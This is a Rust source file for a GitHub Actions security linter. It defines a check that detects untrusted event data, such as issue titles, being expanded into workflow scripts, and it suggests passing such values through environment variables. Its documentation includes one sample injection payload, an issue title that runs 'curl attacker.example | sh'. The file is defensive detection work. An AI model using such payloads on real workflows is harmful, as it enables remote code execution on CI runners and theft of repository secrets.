//! `untrusted-input-in-script`: an expression inserts untrusted text into a script before the shell parses it.

use std::cmp::Reverse;

use crate::engine::repository::context::Writer;
use crate::engine::repository::flow::Flow;
use crate::engine::repository::trust::Trust;
use crate::engine::repository::{Repository, Site, context};
use crate::engine::{Check, Reads, Reports, Run};
use crate::model::{Confidence, Family, Meta, Preset, Severity, Span};
use crate::parse::workflow::{Step, Text};

/// The check.
pub(crate) static CHECK: Check = Check {
    meta: Meta {
        id: "untrusted-input-in-script",
        title: "untrusted input expanded into a script",
        severity: Severity::Medium,
        confidence: Confidence::High,
        family: Family::Workflow,
        remedy: "pass the value through `env:` and write `\"$NAME\"` in the script, so that the shell does not parse it as commands",
        docs: r#"
## What it does
Follows untrusted values into the scripts of workflows and composite actions: `run`, the `script` of
`actions/github-script`, and inputs of well-known actions that are run as code. Values are followed through
`env`, the outputs of steps and jobs, the matrix, the inputs of local actions and of local reusable workflows.

The severity depends on what the writer gains:

- `critical`: anyone can start the job, and it holds a secret or a write token;
- `high`: anyone can start it, and the repository's settings decide what its token may do;
- `medium`: anyone can start it but gains nothing (a pull request from a fork), a condition keeps strangers out, or only
  people who can write to the repository, start a run or call the action control the value.

The message names the event, the value and what it reaches; the places in between are listed. Values that strangers
cannot control are one finding for the repository, with all its places.

## Why is this bad
GitHub inserts the value of `${{ … }}` into the script before the shell starts. A title such as `a"; curl
attacker.example | sh; "` then becomes three commands. The attacks on Ultralytics (2024) and Nx (2025) started this way.

## Example
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
```

## Use instead
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
```

## Known problems
What an action does with its inputs is known only for listed actions. Outputs of other actions are treated as harmless
unless they are known to hold file names, branch names or comments. Numbers, commit ids, user names (letters, digits and
hyphens) and choices between constants are harmless.

## References
- <https://docs.github.com/en/actions/concepts/security/script-injections>
"#,
    },
    run: Run::Repository { preset: Preset::Default, reads: Reads::Workflows, whole: false, run },
};

/// Inputs of actions that run as a script.
const SCRIPTS: [(&str, &[&str]); 18] = [
    ("actions/github-script", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("appleboy/ssh-action", &["script"]),
    ("amadevus/pwsh-script", &["script"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("addnab/docker-run-action", &["run", "options"]),
    ("gautamkrishnar/keepalive-workflow", &["commit_message"]),
    ("lannonbr/repo-permission-check-action", &["permission"]),
    ("mikefarah/yq", &["cmd"]),
    ("nick-fields/retry", &["command", "on_retry_command", "new_command_on_retry"]),
    ("nick-invision/retry", &["command", "on_retry_command"]),
    ("reactivecircus/android-emulator-runner", &["script", "pre-emulator-launch-script"]),
    ("ruby/ruby-wasm", &["run"]),
    ("shivammathur/setup-php", &["ini-values"]),
    ("skitionek/notify-microsoft-teams", &["raw"]),
    ("cross-platform-actions/action", &["run"]),
];

fn run(repository: &Repository, reports: &mut Reports<'_>) {
    for site in repository.steps() {
        let Some(step) = site.step else { continue };
        for script in scripts(step) {
            assess(repository, site, script, reports);
        }
    }
}

/// The texts of `step` that run as scripts.
fn scripts(step: &Step) -> impl Iterator<Item = &Text> {
    let inputs = SCRIPTS.iter().filter(|(action, _)| step.uses_any(&[action]));
    let given = inputs.flat_map(|(_, names)| names.iter().filter_map(|name| step.input(name)));
    step.run.iter().chain(given)
}

/// Reports each value that reaches `script` once, with all its places.
fn assess(repository: &Repository, site: Site<'_>, script: &Text, reports: &mut Reports<'_>) {
    let mut values: Vec<(Flow<'_>, Vec<Span>, &str)> = Vec::new();
    for expression in script.expressions() {
        let flows = repository.flows(site, &expression);
        let Some(flow) = flows.into_iter().max_by_key(|flow| (flow.writer, Reverse(flow.trail.len()))) else {
            continue;
        };
        match values.iter_mut().find(|(known, ..)| known.context == flow.context) {
            Some((_, places, _)) => places.push(expression.span),
            None => values.push((flow, vec![expression.span], expression.raw)),
        }
    }
    let trust = if values.is_empty() { return } else { repository.trust(site) };
    let is_run = site.step.and_then(|step| step.run.as_ref()).is_some_and(|run| std::ptr::eq(run, script));
    let what = if is_run { "this script" } else { "this input, which runs as a script" };
    for (flow, places, raw) in values {
        let Rated { severity, confidence, how } = rate(&flow, &trust);
        let message = format!("`{}` is expanded into {what}: {how}", flow.context);
        let reported = reports.at(site, places[0], message);
        reported.severity(severity).confidence(confidence);
        if flow.writer < Writer::Stranger {
            // What strangers cannot exploit is a practice, not a danger at one line.
            reported.note(format!("`{}`", flow.context)).practice(format!("`{}`", flow.context), MANY);
        } else if let Some(remedy) = remedy(site, is_run, raw) {
            reported.remedy(remedy);
        }
        let starts = trust.privileged.iter().chain(&trust.forks).filter(|_| flow.writer == Writer::Stranger);
        for start in starts.take(1) {
            reported.started_by(*start, "");
        }
        for hop in flow.trail {
            reported.trace(hop.file, hop.span, hop.note);
        }
        for place in &places[1..] {
            reported.trace(site.file, *place, "and here".to_owned());
        }
    }
}

/// How the script should read the value of the expression `raw` in its shell's syntax; none if that is more than one
/// value, or if the shell is unknown.
fn remedy(site: Site<'_>, is_run: bool, raw: &str) -> Option<String> {
    let context = raw.trim();
    let mut parts: Vec<&str> = context.rsplit('.').take(2).filter(|part| *part != "github").collect();
    parts.reverse();
    let is_plain = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
    let name = parts.join("_").replace('-', "_").to_ascii_uppercase();
    if !context.chars().all(|c| is_plain(c) || c == '-') || name.starts_with(|c: char| c.is_ascii_digit()) {
        return None;
    }
    let is_windows =
        || site.job.runs_on.iter().any(|label| label.text.to_ascii_lowercase().contains("windows"));
    let is_javascript = site.step.is_some_and(|step| step.uses_any(&["actions/github-script"]));
    let read = match site.shell() {
        _ if is_javascript => format!("process.env.{name}"),
        _ if !is_run => return None,
        Some("pwsh" | "powershell") => format!("$env:{name}"),
        Some("cmd") => format!("%{name}%"),
        Some("python") => format!("os.environ[\"{name}\"]"),
        None if is_windows() => format!("$env:{name}"),
        Some("bash" | "sh") | None => format!("\"${name}\""),
        Some(_) => return None,
    };
    Some(format!(
        "write `{name}: ${{{{ {context} }}}}` under the step's `env:`, and `{read}` in the script, so that the value is not parsed as commands"
    ))
}

/// The message for several values that strangers cannot control.
const MANY: &str = "values set by callers or people with write access are expanded into scripts";

struct Rated {
    severity: Severity,
    confidence: Confidence,
    how: String,
}

/// What the writer of the value gains, by who starts the job.
fn rate(flow: &Flow<'_>, trust: &Trust<'_>) -> Rated {
    let medium = |how: String| Rated { severity: Severity::Medium, confidence: Confidence::High, how };
    match flow.writer {
        Writer::Computed => Rated {
            confidence: Confidence::Low,
            ..medium("an earlier job computes it from unknown values".to_owned())
        },
        Writer::Caller => medium("its caller can inject commands".to_owned()),
        Writer::Member => {
            medium("anyone who can write to the repository or start a run can inject commands".to_owned())
        }
        Writer::Stranger => {
            let known = context::events(&flow.context);
            let fits = |name: &str| known.is_empty() || known.contains(&name);
            let privileged = trust.privileged.iter().find(|start| fits(&start.event.name.text));
            if let Some(start) = privileged {
                let event = &start.event.name.text;
                let reach = trust.reach();
                if trust.guard.is_some() {
                    let how = format!(
                        "`{event}` runs it with {reach}, but a condition limits who can inject commands"
                    );
                    return Rated { confidence: Confidence::Medium, ..medium(how) };
                }
                let severity = match trust.is_exposed() {
                    true if trust.token == crate::engine::repository::trust::Token::Default
                        && trust.secrets.is_empty() =>
                    {
                        Severity::High
                    }
                    true => Severity::Critical,
                    false => Severity::Medium,
                };
                let how = format!("anyone can inject commands through `{event}`, with {reach}");
                return Rated { severity, confidence: Confidence::High, how };
            }
            if let Some(start) = trust.forks.iter().find(|start| fits(&start.event.name.text)) {
                let event = &start.event.name.text;
                return medium(format!(
                    "anyone can inject commands through `{event}` from a fork, which has no secrets and a read-only token"
                ));
            }
            medium("anyone who gets a change merged can inject commands".to_owned())
        }
    }
}
